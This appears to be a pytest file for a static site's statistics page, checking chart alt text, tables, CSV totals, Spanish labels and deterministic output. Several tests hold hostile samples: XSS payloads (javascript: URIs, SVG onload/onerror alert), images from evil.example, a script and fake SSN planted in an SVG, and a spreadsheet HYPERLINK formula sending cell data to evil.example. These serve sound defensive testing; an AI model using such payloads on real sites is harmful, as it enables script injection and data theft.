"""/statistics/: charts drawn at build time, each with its text alternative, its table and its CSV."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from conftest import REPO
from selectolax.lexbor import LexborHTMLParser
from sitebuild import gate_after_edit

from generator import urls
from generator.config import RoomConfig
from generator.gate.markup import markup_problems
from generator.gate.svg import svg_problems
from generator.render.pages import Site
from generator.room import load_room

NAMES = ("releases-per-year", "withheld-cells-per-basis", "pages-per-agency", "requests-by-status-and-age")


@pytest.fixture(scope="module")
def sample():
    return load_room(RoomConfig.at(REPO))


def numbers(site, name):
    return list(csv.reader(io.StringIO((site / urls.statistics_file(f"{name}.csv")).read_text(encoding="utf-8"))))


@pytest.mark.parametrize("prefix", ["", "es/"])
def test_each_chart_is_shown_with_its_text_alternative_and_table(sample_site, prefix):
    page = LexborHTMLParser((sample_site / prefix / urls.STATISTICS / "index.html").read_text(encoding="utf-8"))
    images = page.css("article img")
    assert [image.attributes["src"] for image in images] == [f"{name}.svg" for name in NAMES]
    for image in images:
        assert len(image.attributes["alt"] or "") > 40
        svg = (sample_site / prefix / urls.STATISTICS / image.attributes["src"]).read_text(encoding="utf-8")
        assert svg_problems(svg) == []
    assert len(page.css("article table")) == len(NAMES)


def test_the_numbers_are_the_rooms(sample_site, sample):
    site = Site(sample)
    totals = site.totals()
    per_year = numbers(sample_site, "releases-per-year")
    assert sum(int(row[1]) for row in per_year[1:]) == totals["releases"]
    cells = numbers(sample_site, "withheld-cells-per-basis")
    # A cell withheld on two bases counts under each, as the bases pages count it.
    assert sum(int(row[1]) for row in cells[1:]) >= totals["withheld"] > 0
    pages = numbers(sample_site, "pages-per-agency")
    assert [sum(int(row[i]) for row in pages[1:]) for i in (1, 2, 3)] == [
        totals["pages_full"],
        totals["pages_part"],
        totals["pages_withheld"],
    ]
    requests = numbers(sample_site, "requests-by-status-and-age")
    assert sum(int(cell) for row in requests[1:] for cell in row[1:]) == totals["requests"]


def test_the_spanish_charts_are_in_spanish(sample_site):
    svg = (sample_site / "es" / urls.statistics_file("releases-per-year.svg")).read_text(encoding="utf-8")
    assert "Publicaciones por año" in svg


def test_the_charts_are_drawn_the_same_every_time(sample):
    first = {f.path: f.content for f in Site(sample).statistics_files()}
    second = {f.path: f.content for f in Site(sample).statistics_files()}
    assert first == second and any(path.endswith(".svg") for path in first)


@pytest.mark.parametrize(
    "image",
    [
        '<img src="https://evil.example/x.svg" alt="a chart">',
        '<img src="//evil.example/x.svg" alt="a chart">',
        '<img src="javascript:alert(1)//.svg" alt="a chart">',
        '<img src="data:image/svg+xml,<svg/onload=alert(1)>.svg" alt="a chart">',
        '<img src="chart.png" alt="a chart">',
        '<img src="chart.svg">',
        '<img src="chart.svg" alt="a chart" onerror="alert(1)">',
        '<img src="chart.svg?x=1.svg" alt="a chart">',
        '<img src="&#1;//evil.example/track.svg" alt="a chart">',
    ],
)
def test_the_gate_allows_only_a_chart_of_this_site_as_an_image(image):
    assert markup_problems(f"<html><body><article>{image}</article></body></html>") != []


def test_the_gate_allows_a_chart_in_the_generated_content_only():
    chart = '<img src="../statistics/releases-per-year.svg" alt="A bar for each year.">'
    assert markup_problems(f"<html><body><article>{chart}</article></body></html>") == []
    assert markup_problems(chart, whole_fragment=True) != []


def test_the_gate_finds_what_is_planted_in_a_chart(site_room, tmp_path):
    def plant(text: str) -> str:
        return text.replace("</svg>", "<text>SSN 123&#45;45&#45;6789</text><script>alert(1)</script></svg>")

    chart = urls.statistics_file("releases-per-year.svg")
    outcome = gate_after_edit(site_room.root, tmp_path / "site", chart, plant)
    assert outcome.returncode == 1
    assert "releases-per-year.svg: svg image: [active-content]" in outcome.stderr
    assert "releases-per-year.svg: file text: [personal-identifier] ssn" in outcome.stderr
    assert "123-45-6789" not in outcome.stderr


def test_a_hostile_agency_name_is_text_in_the_statistics_csv(sample):
    release = next(r for r in sample.published if r.documents)
    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    changed = replace(release, spec=release.spec.model_copy(update={"agency": hostile}))
    room = replace(sample, releases=tuple(changed if r is release else r for r in sample.releases))
    files = {f.path: f.content for f in Site(room).statistics_files()}
    rows = list(csv.reader(io.StringIO(files[urls.statistics_file("pages-per-agency.csv")].decode())))
    assert ["'" + hostile] in [row[:1] for row in rows]
